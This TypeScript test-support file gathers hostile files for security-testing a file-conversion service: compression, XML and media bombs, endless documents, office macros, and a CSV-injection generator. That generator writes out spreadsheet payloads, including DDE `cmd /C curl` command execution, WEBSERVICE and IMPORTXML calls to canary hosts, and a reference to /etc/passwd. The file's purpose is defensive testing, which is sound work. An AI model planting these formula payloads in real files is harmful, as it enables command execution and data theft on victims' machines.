import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { basename, join } from "node:path";
import type { FormatId } from "../../functions/domain/formats/formats.ts";
import { archiveBombs, archiveNames, NAMES } from "../engines/support/attacks/archives.ts";
import { type Attack, attack, repeated, sample } from "../engines/support/attacks/attack.ts";
import { textBombs, xmlBombs, zipBombs } from "../engines/support/attacks/bombs.ts";
import { depths } from "../engines/support/attacks/depths.ts";
import { drawings } from "../engines/support/attacks/endless/drawings.ts";
import { models } from "../engines/support/attacks/endless/models.ts";
import { endlessPapers, papers } from "../engines/support/attacks/endless/papers.ts";
import { texts } from "../engines/support/attacks/endless/texts.ts";
import { markupAttacks } from "../engines/support/attacks/markup.ts";
import { mediaBombs } from "../engines/support/attacks/media-bombs.ts";
import { mediaHeaders } from "../engines/support/attacks/media-headers.ts";
import { mediaReferences } from "../engines/support/attacks/media-references.ts";
import { fontBombs, pictureBombs } from "../engines/support/attacks/pictures.ts";
import type { Places } from "../engines/support/attacks/references/places.ts";
import { references } from "../engines/support/attacks/references.ts";
import { sizes } from "../engines/support/attacks/sizes.ts";
import { macroText, officeAttacks } from "../engines/support/office-references.ts";

/** Every file that is meant to do harm, by what it tries. */

export interface HostileFile {
  readonly family: string;
  readonly name: string;
  /** As the client calls it. */
  readonly filename: string;
  readonly bytes: () => Promise<Uint8Array>;
  /** What it is to become; of a file of the corpus, what most people want of its format. */
  readonly to?: readonly FormatId[];
  /** Whether no engine can tell that its work never ends: the limits of the process do. */
  readonly endless?: boolean;
}

/** Where files try to reach to. */
export interface Canaries {
  /** Addresses, file URLs and paths, none of which may be opened. */
  readonly places: Places;
  /** A file that nothing may write. */
  readonly written: string;
}

/** @returns all files that the generator makes */
export const generated = ({ places, written }: Canaries): HostileFile[] => {
  const table: Readonly<Record<string, readonly Attack[]>> = {
    "zip, and documents that are zips": zipBombs,
    "archives: bombs": archiveBombs,
    "archives: names": archiveNames,
    "XML entities": xmlBombs,
    "YAML and Markdown that grow": textBombs,
    "nested without end": depths,
    "sizes that are lies": sizes,
    "PNG and GIF": pictureBombs,
    "SVG without end": drawings,
    "PDF without end": papers,
    "models without end": models,
    "tables and texts without end": texts,
    fonts: fontBombs,
    "references to elsewhere": references(places),
    "markup that refers": markup(places),
    "office links and macros": office(places, written),
    "CSV injection": injections(places),
    "media bombs": mediaBombs,
    "media lies": mediaHeaders,
    "HLS and other lists": mediaReferences(places),
  };
  return [
    ...Object.entries(table).flatMap(([family, attacks]) => attacks.map((one) => fileOf(family, one))),
    ...endlessPapers.map((one) => ({ ...fileOf("PDF without end", one), endless: true })),
    ...NAMES.map(([what, name]) => ({
      family: "names of uploads",
      name: what,
      filename: `${name}.png`,
      bytes: async () => sample("png"),
      to: ["webp"] as const,
    })),
  ];
};

const fileOf = (family: string, { name, from, to, bytes }: Attack): HostileFile => ({
  family,
  name: `${from}: ${name}`,
  filename: `hostile.${from}`,
  bytes: async () => Buffer.from(await bytes()),
  to,
});

const markup = ([place, , path = ""]: Places): Attack[] =>
  Object.entries(markupAttacks({ file: path, picture: path, place })).map(([from, text]) =>
    attack(from as FormatId, ["html", "docx", "pdf"], "refers in all its ways", () => text),
  );

const office = (places: Places, written: string): Attack[] => [
  ...officeAttacks.flatMap(({ title, format, write }) =>
    places.map((place) =>
      attack(format, ["pdf", "html", "csv"], `${title} at ${place.slice(0, 5)}`, async () => {
        const folder = mkdtempSync(join(tmpdir(), "anyform-office-"));
        try {
          const path = join(folder, "document");
          await write(path, place);
          return readFileSync(path);
        } finally {
          rmSync(folder, { recursive: true });
        }
      }),
    ),
  ),
  attack("fodt", ["pdf", "docx"], "a macro that runs when it is opened", () => macroText(written)),
];

/** What spreadsheets take for formulas, and for commands (OWASP, CSV Injection). */
const injections = (places: Places): Attack[] => {
  const cells = places.flatMap((place) => [
    `=WEBSERVICE("${place}")`,
    `=HYPERLINK("${place}","x")`,
    `=cmd|' /C curl ${place}'!A0`,
    `@SUM(1+1)*cmd|' /C curl ${place}'!A0`,
    `-2+3+cmd|' /C curl ${place}'!A0`,
    `\t=IMPORTXML("${place}","//a")`,
    `=DDE("soffice";"${place}";"A1")`,
    `='file:///etc/passwd'#$passwd.A1`,
  ]);
  const csv = `a,b\n${repeated((n) => `${n},"${(cells[n - 1] ?? "").replaceAll('"', '""')}"\n`, cells.length)}`;
  const json = JSON.stringify(cells.map((cell) => ({ cell })));
  return [
    attack("csv", ["xlsx", "ods", "html", "pdf"], "cells that are formulas", () => csv),
    attack("tsv", ["xlsx", "xls"], "cells that are formulas", () => csv.replaceAll(",", "\t")),
    attack("json", ["csv", "xlsx"], "texts that are formulas", () => json),
  ];
};

/** @returns of each family so many files, from all of it, and none that only a limit of time ends */
export const fewOf = (files: readonly HostileFile[], most: number): HostileFile[] =>
  [...Map.groupBy(files, ({ family }) => family).values()].flatMap((family) => {
    const quick = family.filter(({ endless }) => endless !== true);
    const step = Math.max(1, quick.length / most);
    return quick.filter((_, index) => Math.floor(index / step) !== Math.floor((index - 1) / step));
  });

/** @returns the files of the corpus that are `corrupt` or `hostile`, by its `MANIFEST.tsv` */
export const corpusFiles = (corpus: string): HostileFile[] =>
  readFileSync(join(corpus, "MANIFEST.tsv"), "utf8")
    .trim()
    .split("\n")
    .slice(1)
    .map((line) => line.split("\t"))
    .filter(([, , , , kind]) => kind === "corrupt" || kind === "hostile")
    .map(([file = "", , , , kind = ""]) => ({
      family: `corpus: ${kind}`,
      name: file,
      filename: basename(file),
      bytes: async () => readFileSync(join(corpus, file)),
    }));
